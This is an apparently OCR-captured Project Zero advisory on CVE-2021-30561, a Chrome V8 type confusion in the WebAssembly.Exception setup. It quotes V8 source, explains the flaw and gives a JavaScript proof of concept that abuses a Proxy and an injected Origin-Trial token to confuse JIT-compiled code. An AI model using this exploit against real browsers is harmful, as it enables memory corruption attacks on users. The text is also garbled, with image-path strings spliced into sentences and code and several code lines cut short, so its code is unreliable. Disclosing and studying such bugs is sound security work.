Chrome: JS object corruption in WasmJs::InstallConditionalFeatures
void WasmJs::InstallConditionalFeatures(Isolate* isolate,
Handle<Context> context) {
// Exception handling may have been enabled by an origin trial. If so, make
// sure that the {WebAssembly.Exception} constructor is set up.
auto enabled_features = i::wasm::WasmFeatures::FromContext(isolate, context);
if (enabled_features.has_eh()) {
Handle<JSGlobalObject> global = handle(context->global_object(), isolate);
MaybeHandle<Object> maybe_webassembly =
JSObject::GetProperty(isolate, global, \"WebAssembly\");
Handle<JSObject> webassembly =
// Setup Exception
Handle<String> exception_name = v8_str(isolate, \"Exception\");
if (!JSObject::HasProperty(webassembly, exception_name).FromMaybe(true)) { // *** 1 ***
Handle<JSFunction> exception_constructor = InstallConstructorFunc( // *** 2 ***
isolate, webassembly, \"Exception\", WebAssemblyException);
Handle<JSFunction> InstallConstructorFunc(Isolate* isolate,
Handle<JSObject> object,
const char* str,
FunctionCallback func) {
return InstallFunc(isolate, object, str, func, 1, true, DONT_ENUM,
Handle<JSFunction> InstallFunc(
Isolate* isolate, Handle<JSObject> object, const char* str,
FunctionCallback func, int length, bool has_prototype = false,PropertyAttributes attributes = NONE,
SideEffectType side_effect_type = SideEffectType::kHasSideEffect) {
Handle<String> name = v8_str(isolate, str);
Handle<JSFunction> function =
CreateFunc(isolate, name, func, has_prototype, side_effect_type);
JSObject::AddProperty(isolate, object, name, function, attributes); // *** 3 ***
return function;
The function `WasmJs::InstallConditionalFeatures` is responsible for setting up the `WebAssembly.Exception` constructor[2] depending on whether the corresponding feature is enabled. Usually, code like above only runs at context creation time before any user JS can be executed. However, in this case, the feature is controlled by an origin trial, and an attacker can add a new origin trial token to the active document at any time, by which they may havemodified or replaced the `WebAssembly` object.
This is problematic because the `Exception` constructor is assigned via theservice function `AddProperty`[3]. Unlike the regular `SetProperty`, `AddProperty` doesn't check whether a property with the same name is already defined on the receiver. As a result, the receiver may end up in a corrupted state where two of its properties have the same name. Moreover, if the receiver's map is deprecated by the time `AddProperty` is called, the function will create a new property descriptor, but modify the value of the existing property without updating its descriptor.
A property descriptor may contain, among otherthings, the field map i.e. the only map that values of that property are allowed to have. This information is used by TurboFan in the load elimination phase in order to remove unnecessary map checks. If an incompatible object is assigned to the property, the field map gets cleared, and all dependent code gets deoptimized.
The vulnerability allows the attacker to construct an object with a field that doesn't match its field map and thus cause a type confusion between an arbitrary JS object and the `Exception` constructor in JIT-compiled JavaScript code.
Note that the code checks if the `Exception` property already exists[1]. Unfortunately, it uses the `HasProperty` function, which follows prototype chains and trusts `Proxy` objects. Therefore, the attacker can implement a `Proxy` with a custom `has` handler, which will be triggered by `HasProperty` and define the `Exception` property when it's too late for the function to spot it.
Google Chrome 91.0.4472.77 (Official Build) (x86_64)
Chromium 93.0.4532.0 (Developer Build) (64-bit)
array = [1.1];
array.stable_map = 1; // LoadElimination ignores fields with non-stable maps
proxy = new Proxy({}, {
has() {
object_1.Exception = array;
object_2.deprecated_map = 1.1;
object_2.Exception = array;
return false;
object_1 = {__proto__: proxy};
object_1.deprecated_map = 0;
object_2 = {__proto__: proxy};
WebAssembly = object_1;
meta = document.createElement('meta');
meta.httpEquiv = 'Origin-Trial';
meta.content = 'AkraUQ8UvLgBl/MKvqU9ZuwZ2csKJU75hMutXva8msph9EKaxUkf1fmA4V3y8' +
'SLmwlYwFzKQHL2w+lwlIzfcJgsAAAB2eyJvcmlnaW4iOiJodHRwczovL2FuYW' +
'xvZy1mYXN0bmVzcy0yMzAyMTkudWMuci5hcHBzcG90LmNvbTo0NDMiLCJmZWF' +
'0dXJlIjoiV2ViQXNzZW1ibHlFeGNlcHRpb25zIiwiZXhwaXJ5IjoxNjM3MTA3' +delete object_1.Exception; // transition back to object_2's map
jit = (object, index) => {return object.Exception[index];
for (var i = 0; i < 100000; ++i)
jit(object_2, 0);
alert(jit(object_1, Number(location.hash.substring(1))));
The repro case won't work locally with the token above because of the origin restrictions. A live demo is available at
Sergei Glazunov of Google Project Zero
This bug is subject to a 90-day disclosure deadline. If a fix for this
issue is made available to users before the end of the 90-day deadline,
this bug report will become public 30 days after the fix was made
available. Otherwise, this bug report will become public at the deadline.
The scheduled deadline is 2021-09-12.
RelatedCVE Numbers: CVE-2021-30561.
Found by: